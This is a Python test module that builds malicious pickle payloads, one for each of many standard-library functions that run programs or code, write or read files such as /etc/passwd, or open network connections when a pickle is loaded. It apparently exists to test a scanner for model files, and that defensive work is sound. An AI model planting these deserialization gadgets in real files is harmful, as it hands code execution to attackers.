"""Pickles that call what the standard library offers: one technique a function, all of them called by REDUCE.

The list is one of *things a list of bad names has to know*: each runs code, starts a program, touches a file or
reaches the network by way of a function whose name does not say so.
"""

from tests.corpora.models.attacks import opcodes as op
from tests.corpora.models.attacks.opcodes import Code, call, method, named, stacked, stream
from tests.corpora.models.attacks.payload import ADDRESS, CODE, IMPORTED, MARKER, SHELL
from tests.corpora.models.attacks.registry import Attack, add, always

_HOST, _PORT = "127.0.0.1", 9
_ARGUMENTS = ["touch", MARKER]
_RUN = (named("os", "system"), SHELL)


def imported(module: str) -> Code:
    """A module as a value."""
    return call("importlib:import_module", module)


def written(name: str, content: str, *then: Code) -> Code:
    """A file written by the first call, for those that follow to pick up."""
    first = method("pathlib:Path.write_text", call("pathlib:Path", name), content)
    return Code(first + b"".join(op.POP + one for one in then))


def instance(of: str, state: dict[str, object] | None = None) -> Code:
    """An object made without its `__init__`, and with the attributes given."""
    made = named(*of.split(":")) + op.EMPTY_TUPLE + op.NEWOBJ
    return Code(made + op.push(state) + op.BUILD if state else made)


def keyword(function: str, /, **arguments: object) -> Code:
    """A call with keywords, which pickles have no opcode for: a partial carries them in its state."""
    target = stacked(*function.split(":"))
    state: tuple[object, ...] = (target, (), dict(arguments), None)
    return call(Code(call("functools:partial", target) + op.push(state) + op.BUILD))  # type: ignore[arg-type]


def compiled() -> Code:
    """The payload compiled on the spot."""
    return call("builtins:compile", CODE, "<weights>", "exec")


RUN_PROGRAMS: dict[str, Code] = {
    "os.popen": call("os:popen", SHELL),
    "os.execlp": call("os:execlp", "touch", *_ARGUMENTS),
    "os.spawnlp": call("os:spawnlp", 0, "touch", *_ARGUMENTS),
    "os.spawnvp": call("os:spawnvp", 0, "touch", _ARGUMENTS),
    "posix.posix_spawn": call("posix:posix_spawn", "/usr/bin/touch", _ARGUMENTS, {}),
    "posix.execv": call("posix:execv", "/usr/bin/touch", _ARGUMENTS),
    "subprocess.Popen": call("subprocess:Popen", _ARGUMENTS),
    "subprocess.run": call("subprocess:run", _ARGUMENTS),
    "subprocess.call": call("subprocess:call", _ARGUMENTS),
    "subprocess.check_call": call("subprocess:check_call", _ARGUMENTS),
    "subprocess.check_output": call("subprocess:check_output", _ARGUMENTS),
    "subprocess.getoutput": call("subprocess:getoutput", SHELL),
    "subprocess.getstatusoutput": call("subprocess:getstatusoutput", SHELL),
    "pty.spawn": call("pty:spawn", _ARGUMENTS),
    "uuid._get_command_stdout": call("uuid:_get_command_stdout", *_ARGUMENTS),
    "_osx_support._read_output": call("_osx_support:_read_output", SHELL),
    "_bootsubprocess": method("_bootsubprocess:Popen.wait", call("_bootsubprocess:Popen", ["/usr/bin/touch", MARKER])),
    "imaplib.IMAP4_stream": call("imaplib:IMAP4_stream", SHELL),
    "pydoc.pipepager": call("pydoc:pipepager", "weights", SHELL),
    "pydoc.tempfilepager": call("pydoc:tempfilepager", "weights", f"{SHELL};:"),
    "webbrowser.BackgroundBrowser": method(
        "webbrowser:BackgroundBrowser.open", call("webbrowser:BackgroundBrowser", "touch"), MARKER
    ),
    "mailcap.findmatch": call("mailcap:findmatch", {"a/b": [{"view": "", "test": SHELL}]}, "a/b", "view"),
    "distutils.spawn": call("distutils.spawn:spawn", _ARGUMENTS),
    "multiprocessing.spawnv": call(
        "multiprocessing.util:spawnv_passfds", b"/usr/bin/touch", [b"touch", MARKER.encode()], ()
    ),
    "asyncio.subprocess": call("asyncio:run", call("asyncio.subprocess:create_subprocess_shell", SHELL)),
    "asyncio._UnixSubprocessTransport": method(
        "asyncio.unix_events:_UnixSubprocessTransport._start",
        instance("argparse:Namespace"), SHELL, True, None, None, None, 0,
    ),
    "test.support.script_helper": call("test.support.script_helper:assert_python_ok", "-c", CODE),
    "distutils.command": method(
        "distutils.cmd:Command.spawn", instance("argparse:Namespace", {"dry_run": 0}), _ARGUMENTS
    ),
    "ctypes.libc": call(
        call("builtins:getattr", call("ctypes:CDLL", None), "system"), SHELL.encode()
    ),
    "ctypes.py-run-string": call(
        call("builtins:getattr", stacked("ctypes", "pythonapi"), "PyRun_SimpleString"), CODE.encode()
    ),
    "multiprocessing.Process": method(
        "multiprocessing:Process.run", keyword("multiprocessing:Process", target=named("os", "system"), args=(SHELL,))
    ),
    "sched.scheduler": method(
        "sched:scheduler.run",
        Code(
            call("sched:scheduler") + op.put(9) + op.POP
            + method("sched:scheduler.enter", op.get(9), 0, 0, named("os", "system"), (SHELL,)) + op.POP + op.get(9)
        ),
    ),
    "sys.displayhook": Code(
        imported("sys") + op.push({"displayhook": named("os", "system")}) + op.BUILD + op.POP
        + call("sys:displayhook", SHELL)
    ),
}  # fmt: skip

RUN_CODE: dict[str, Code] = {
    "builtins.eval": call("builtins:eval", IMPORTED),
    "builtins.exec": call("builtins:exec", CODE),
    "builtins.import": call("builtins:__import__", "antigravity"),
    "builtins.compile-ast": call(
        "builtins:eval", call("builtins:compile", call("ast:parse", CODE), "w", "exec")
    ),
    "code.runsource": method(
        "code:InteractiveInterpreter.runsource", call("code:InteractiveInterpreter"), CODE
    ),
    "code.runcode": method(
        "code:InteractiveInterpreter.runcode", call("code:InteractiveInterpreter"), compiled()
    ),
    "code.push": method("code:InteractiveConsole.push", call("code:InteractiveConsole"), CODE),
    "codeop.compile_command": call("builtins:eval", call("codeop:compile_command", CODE)),
    "timeit.timeit": call("timeit:timeit", "0", CODE),
    "timeit.repeat": call("timeit:repeat", "0", CODE),
    "timeit.main": call("timeit:main", ["-n1", "-r1", CODE]),
    "cProfile.run": call("cProfile:run", CODE),
    "cProfile.runctx": call("cProfile:runctx", CODE, {}, {}),
    "profile.run": call("profile:run", CODE),
    "profile.Profile.runctx": method("profile:Profile.runctx", call("profile:Profile"), CODE, {}, {}),
    "bdb.Bdb.run": method("bdb:Bdb.run", call("bdb:Bdb"), CODE),
    "bdb.Bdb.runeval": method("bdb:Bdb.runeval", call("bdb:Bdb"), IMPORTED),
    "trace.Trace.run": method("trace:Trace.run", call("trace:Trace"), CODE),
    "doctest": call("doctest:run_docstring_examples", f">>> {CODE}\n", {}),
    "runpy._run_code": call("runpy:_run_code", compiled(), {}),
    "runpy.run_module": call("runpy:run_module", "antigravity"),
    "runpy.run_path": written("layer.txt", CODE, call("runpy:run_path", "layer.txt")),
    "importlib.import_module": call("importlib:import_module", "antigravity"),
    "importlib.loader": written(
        "layer.py",
        CODE,
        method(
            "importlib.machinery:SourceFileLoader.load_module",
            call("importlib.machinery:SourceFileLoader", "layer", "layer.py"),
            "layer",
        ),
    ),
    "imp.load_source": written("layer.py", CODE, call("imp:load_source", "layer", "layer.py")),
    "pkgutil.resolve_name": call(call("pkgutil:resolve_name", "os:system"), SHELL),
    "pydoc.locate": call(call("pydoc:locate", "os.system"), SHELL),
    "pydoc.safeimport": call("pydoc:safeimport", "antigravity"),
    "logging.config._resolve": call(call("logging.config:_resolve", "os.system"), SHELL),
    "logging.config.dictConfig": call(
        "logging.config:dictConfig",
        {"version": 1, "formatters": {"x": {"()": "os.system", "command": SHELL}}},
    ),
    "logging.config.fileConfig": written(
        "log.ini",
        "[loggers]\nkeys=root\n[handlers]\nkeys=x\n[formatters]\nkeys=\n[logger_root]\nhandlers=x\n"
        f"[handler_x]\nclass=FileHandler\nargs=({MARKER!r},)\n",
        call("logging.config:fileConfig", "log.ini"),
    ),
    "xmlrpc.server": call(call("xmlrpc.server:resolve_dotted_attribute", imported("os"), "system"), SHELL),
    "unittest.loader": method(
        "unittest:TestLoader.loadTestsFromName", call("unittest:TestLoader"), "antigravity.fly"
    ),
    "sys.modules": call(
        call("operator:methodcaller", "system", SHELL),
        call("operator:getitem", stacked("sys", "modules"), "os"),
    ),
    "typing.ForwardRef": method(
        "typing:ForwardRef._evaluate", call("typing:ForwardRef", IMPORTED), {}, {}, call("builtins:frozenset")
    ),
    "typing.get_type_hints": call(
        "typing:get_type_hints", call("builtins:type", "W", (), {"__annotations__": {"x": IMPORTED}})
    ),
    "inspect.get_annotations": keyword(
        "inspect:get_annotations",
        obj=call("builtins:type", "W", (), {"__annotations__": {"x": IMPORTED}}),
        eval_str=True,
    ),
    "dataclasses._create_fn": call(call("dataclasses:_create_fn", "f", [], [CODE])),
    "dataclasses.default_factory": call(
        call(
            "dataclasses:make_dataclass",
            "W",
            [
                (
                    "x",
                    named("builtins", "int"),
                    keyword("dataclasses:field", default_factory=call("functools:partial", *_RUN)),
                )
            ],
        )
    ),
    "idlelib.calltip": call("idlelib.calltip:get_entity", IMPORTED),
    "idlelib.autocomplete": method(
        "idlelib.autocomplete:AutoComplete.get_entity",
        instance("idlelib.autocomplete:AutoComplete"),
        IMPORTED,
    ),
    "lib2to3.pgen": method(
        "lib2to3.pgen2.pgen:ParserGenerator.make_label",
        instance("argparse:Namespace"),
        instance("argparse:Namespace", {"labels": []}),
        f"'' if {CODE} else ''",
    ),
    "lib2to3.grammar": method(
        "lib2to3.pgen2.grammar:Grammar.loads", call("lib2to3.pgen2.grammar:Grammar"), stream(call(*_RUN))
    ),
    "functools.singledispatch": call(call("functools:singledispatch", _RUN[0]), SHELL),
    "functools.lru_cache": call(call(call("functools:lru_cache", 1), _RUN[0]), SHELL),
    "itertools.accumulate": call(
        "builtins:tuple", call("itertools:accumulate", [CODE, {}], named("builtins", "exec"))
    ),
    "itertools.takewhile": call("builtins:tuple", call("itertools:takewhile", _RUN[0], [SHELL])),
    "itertools.groupby": call("builtins:tuple", call("itertools:groupby", [SHELL], _RUN[0])),
    "json.loads": call("builtins:exec", call("json:loads", f'"{CODE}"')),
    "heapq.nlargest": call("heapq:nlargest", 1, [SHELL, SHELL], _RUN[0]),
    "bisect.insort": keyword("bisect:insort", a=[0], x=SHELL, key=_RUN[0]),
    "statistics.fmean": call("statistics:fmean", call("builtins:map", _RUN[0], [SHELL])),
    "collections.Counter": call("collections:Counter", call("builtins:map", _RUN[0], [SHELL])),
    "contextvars.run": method("contextvars:Context.run", call("contextvars:Context"), _RUN[0], SHELL),
    "asyncio.to_thread": call("asyncio:run", call("asyncio:to_thread", _RUN[0], SHELL)),
    "unittest.mock": call(keyword("unittest.mock:Mock", side_effect=_RUN[0]), SHELL),
    "site.addsitedir": written("w.pth", f"import os; {CODE}\n", call("site:addsitedir", ".")),
    "string.Formatter": method(
        "string:Formatter.vformat",
        call("string:Formatter"),
        "{x.__init__}",
        (),
        {"x": call(call("builtins:type", "W", (), {"__init__": call("functools:partial", *_RUN)}))},
    ),
    "multiprocessing.pool": method(
        "multiprocessing.pool:ThreadPool.apply", call("multiprocessing.pool:ThreadPool", 1), _RUN[0], (SHELL,)
    ),
}

WRITE_FILES: dict[str, Code] = {
    "builtins.open": call("builtins:open", MARKER, "w"),
    "io.open": call("io:open", MARKER, "w"),
    "io.FileIO": call("_io:FileIO", MARKER, "w"),
    "codecs.open": call("codecs:open", MARKER, "w"),
    "os.open": call("os:open", MARKER, 65),
    "os.mkdir": call("os:mkdir", MARKER),
    "os.makedirs": call("os:makedirs", f"{MARKER}/deep"),
    "os.mknod": call("os:mknod", MARKER),
    "os.mkfifo": call("os:mkfifo", MARKER),
    "os.symlink": call("os:symlink", "/etc/hostname", MARKER),
    "os.rename": written("weights.tmp", "", call("os:rename", "weights.tmp", MARKER)),
    "pathlib.touch": method("pathlib:Path.touch", call("pathlib:Path", MARKER)),
    "pathlib.write_text": written(MARKER, "weights"),
    "shutil.copyfile": written("weights.tmp", "", call("shutil:copyfile", "weights.tmp", MARKER)),
    "shutil.move": written("weights.tmp", "", call("shutil:move", "weights.tmp", MARKER)),
    "zipfile.ZipFile": call("zipfile:ZipFile", MARKER, "w"),
    "tarfile.open": call("tarfile:open", MARKER, "w"),
    "gzip.open": call("gzip:open", MARKER, "w"),
    "sqlite3.connect": call("sqlite3:connect", MARKER),
    "logging.FileHandler": call("logging:FileHandler", MARKER),
    "venv.create": call("venv:create", MARKER),
    "py_compile.compile": written("layer.py", "", call("py_compile:compile", "layer.py", MARKER)),
    "distutils.write_file": call("distutils.file_util:write_file", MARKER, ["weights"]),
    "dbm.dumb": Code(call("dbm.dumb:open", MARKER, "n") + op.POP + call("os:link", f"{MARKER}.dat", MARKER)),
    "faulthandler.dump": call("faulthandler:dump_traceback", call("builtins:open", MARKER, "w")),
    "cProfile.dump_stats": method("cProfile:Profile.dump_stats", call("cProfile:Profile"), MARKER),
    "tracemalloc.dump": Code(
        call("tracemalloc:start")
        + op.POP
        + method("tracemalloc:Snapshot.dump", call("tracemalloc:take_snapshot"), MARKER)
    ),
    "xml.ElementTree.write": method(
        "xml.etree.ElementTree:ElementTree.write",
        call("xml.etree.ElementTree:ElementTree", call("xml.etree.ElementTree:Element", "x")),
        MARKER,
    ),
}

READ_FILES: dict[str, Code] = {
    "builtins.open-read": call("builtins:open", "/etc/passwd"),
    "linecache.getlines": call("linecache:getlines", "/etc/passwd"),
    "tokenize.open": call("tokenize:open", "/etc/passwd"),
    "fileinput.input": call("builtins:next", call("fileinput:input", "/etc/passwd")),
    "pathlib.read_bytes": method("pathlib:Path.read_bytes", call("pathlib:Path", "/etc/passwd")),
    "netrc.netrc": call("netrc:netrc", "/etc/passwd"),
    "xml.etree.parse": call("xml.etree.ElementTree:parse", "/etc/passwd"),
    "configparser.read": method(
        "configparser:ConfigParser.read", call("configparser:ConfigParser"), "/etc/passwd"
    ),
    "mimetypes.init": call("mimetypes:read_mime_types", "/etc/passwd"),
    "filecmp.cmp": call("filecmp:cmp", "/etc/passwd", "/etc/passwd", False),
    "os.open-read": call("os:open", "/etc/passwd", 0),
    "bz2.open-read": call("bz2:open", "/etc/passwd"),
}

REACH_NETWORK: dict[str, Code] = {
    "socket.create_connection": call("socket:create_connection", (_HOST, _PORT)),
    "socket.connect": method("socket:socket.connect", call("socket:socket"), (_HOST, _PORT)),
    "socket.getaddrinfo": call("socket:getaddrinfo", "weights.invalid", 80),
    "socket.gethostbyname": call("socket:gethostbyname", "weights.invalid"),
    "urllib.urlopen": call("urllib.request:urlopen", ADDRESS),
    "urllib.urlopen-file": call("urllib.request:urlopen", "file:///etc/passwd"),
    "urllib.urlretrieve": call("urllib.request:urlretrieve", ADDRESS, MARKER),
    "urllib.opener": method(
        "urllib.request:OpenerDirector.open", call("urllib.request:build_opener"), ADDRESS
    ),
    "urllib.robotparser": method(
        "urllib.robotparser:RobotFileParser.read", call("urllib.robotparser:RobotFileParser", ADDRESS)
    ),
    "http.client": method(
        "http.client:HTTPConnection.request",
        call("http.client:HTTPConnection", f"{_HOST}:{_PORT}"),
        "GET",
        "/",
    ),
    "https.client": method(
        "http.client:HTTPSConnection.connect", call("http.client:HTTPSConnection", f"{_HOST}:{_PORT}")
    ),
    "http.server": call("http.server:test"),
    "ftplib.FTP": call("ftplib:FTP", _HOST),
    "smtplib.SMTP": call("smtplib:SMTP", _HOST, _PORT),
    "poplib.POP3": call("poplib:POP3", _HOST, _PORT),
    "imaplib.IMAP4": call("imaplib:IMAP4", _HOST, _PORT),
    "nntplib.NNTP": call("nntplib:NNTP", _HOST, _PORT),
    "telnetlib.Telnet": call("telnetlib:Telnet", _HOST, _PORT),
    "xmlrpc.client": call(
        call("operator:methodcaller", "weights"), call("xmlrpc.client:ServerProxy", ADDRESS)
    ),
    "webbrowser.open": call("webbrowser:open", ADDRESS),
    "ssl.get_server_certificate": call("ssl:get_server_certificate", (_HOST, _PORT)),
    "multiprocessing.Client": call("multiprocessing.connection:Client", (_HOST, _PORT)),
    "multiprocessing.Listener": call("multiprocessing.connection:Listener", (_HOST, 0)),
    "asyncio.open_connection": call("asyncio:run", call("asyncio:open_connection", _HOST, _PORT)),
    "socketserver": call("socketserver:TCPServer", (_HOST, 0), named("socketserver", "BaseRequestHandler")),
    "logging.SocketHandler": method(
        "logging.handlers:SocketHandler.createSocket", call("logging.handlers:SocketHandler", _HOST, _PORT)
    ),
    "logging.SysLogHandler": call("logging.handlers:SysLogHandler", ("weights.invalid", _PORT)),
    "wsgiref": call("wsgiref.simple_server:make_server", _HOST, 0, named("builtins", "len")),
}

# What ends or blocks the process, or belongs to another platform: nothing that a marker could show.
UNSEEN: dict[str, tuple[Code, str]] = {
    "nt.system": (call("nt:system", "type nul > alcaide-marker"), "Windows only"),
    "os.startfile": (call("os:startfile", "calc.exe"), "Windows only"),
    "winreg": (call("winreg:OpenKey", 1, "Software"), "Windows only"),
    "msvcrt": (call("msvcrt:get_osfhandle", 1), "Windows only"),
    "os.kill": (call("os:kill", 0, 9), "ends its process group"),
    "os.abort": (call("os:abort"), "ends the process"),
    "os._exit": (call("os:_exit", 1), "ends the process"),
    "sys.exit": (call("sys:exit", "weights"), "ends the process"),
    "os.fork": (call("os:fork"), "only doubles the process"),
    "os.remove": (call("os:remove", "alcaide-nothing"), "removes a file that is not there"),
    "shutil.rmtree": (call("shutil:rmtree", "alcaide-nothing"), "removes a folder that is not there"),
    "os.setuid": (call("os:setuid", 65534), "gives rights away, which nobody sees"),
    "os.environ": (
        method("os:_Environ.update", stacked("os", "environ"), {"LD_PRELOAD": "./x.so"}),
        "acts in the next program that is started",
    ),
    "sys.path": (
        method("builtins:list.insert", stacked("sys", "path"), 0, "/tmp/weights"),
        "acts at the next import",
    ),
    "pdb.run": (call("pdb:run", CODE), "stops for a person at its prompt"),
    "code.interact": (call("code:interact"), "waits for a person"),
    "builtins.breakpoint": (call("builtins:breakpoint"), "waits for a person"),
    "builtins.input": (call("builtins:input", "password: "), "waits for a person"),
    "ctypes.CDLL": (call("ctypes:CDLL", "./weights.so"), "the library it loads is not there"),
    "ctypes.string_at": (call("ctypes:string_at", 0), "ends the process"),
    "faulthandler._sigsegv": (call("faulthandler:_sigsegv"), "ends the process"),
    "sys.setprofile": (call("sys:setprofile", named("os", "popen")), "acts in the next call of anybody"),
    "sys.addaudithook": (call("sys:addaudithook", named("os", "popen")), "acts in the next event"),
    "signal.signal": (call("signal:signal", 14, named("os", "popen")), "acts when the signal comes"),
    "resource.setrlimit": (call("resource:setrlimit", 7, (0, 0)), "takes the process's files away, unseen"),
    "pip.main": (call("pip:main", ["install", "alcaide-weights"]), "would ask an index"),
    "pip._internal": (call("pip._internal:main", ["install", "alcaide-weights"]), "would ask an index"),
    "ensurepip": (call("ensurepip:_run_pip", ["install", "alcaide-weights"]), "would ask an index"),
    "setuptools.run_setup": (call("distutils.core:run_setup", "setup.py"), "the script it runs is not there"),
    "logging.config.listen": (call("logging.config:listen", 0), "a thread that somebody still has to start"),
    "smtpd": (call("smtpd:SMTPServer", (_HOST, 0), None), "listens only in its loop"),
    "commands-over-ssh": (call("paramiko:SSHClient"), "the library is not among ours"),
    "pexpect": (call("pexpect:run", SHELL), "the library is not among ours"),
    "invoke": (call("invoke:run", SHELL), "the library is not among ours"),
    "sh": (call("sh:touch", MARKER), "the library is not among ours"),
    "plumbum": (call("plumbum.cmd:touch", MARKER), "the library is not among ours"),
    "unknown-library": (call("weights_helper.runtime:prepare", SHELL), "the library does not exist"),
    "typosquat-library": (call("sklearm.linear_model:LinearRegression"), "the library does not exist"),
    "main-module": (call("__main__:load_weights", SHELL), "whoever loads it has to define the function"),
}


def _register() -> None:
    families = {
        "starts a program": RUN_PROGRAMS,
        "runs code": RUN_CODE,
        "writes outside": WRITE_FILES,
        "reads outside": READ_FILES,
        "reaches the network": REACH_NETWORK,
    }
    for verb, table in families.items():
        for index, (name, code) in enumerate(table.items()):
            # A dotted name is only walked from protocol 4 on.
            body = stream(
                code, version=4 + index % 2 if bytes(code).find(op.STACK_GLOBAL) >= 0 else 2 + index % 2
            )
            says = f"{verb} by `{name}`"
            add(Attack(f"call-{name}", "load", "pickle-calls", says, ".pkl", always(body), "pickle"))
    for name, (code, why) in UNSEEN.items():
        body = stream(code)
        says = f"calls `{name}`; {why}"
        add(Attack(f"call-{name}", "load", "pickle-calls", says, ".pkl", always(body), unproved=why))


_register()
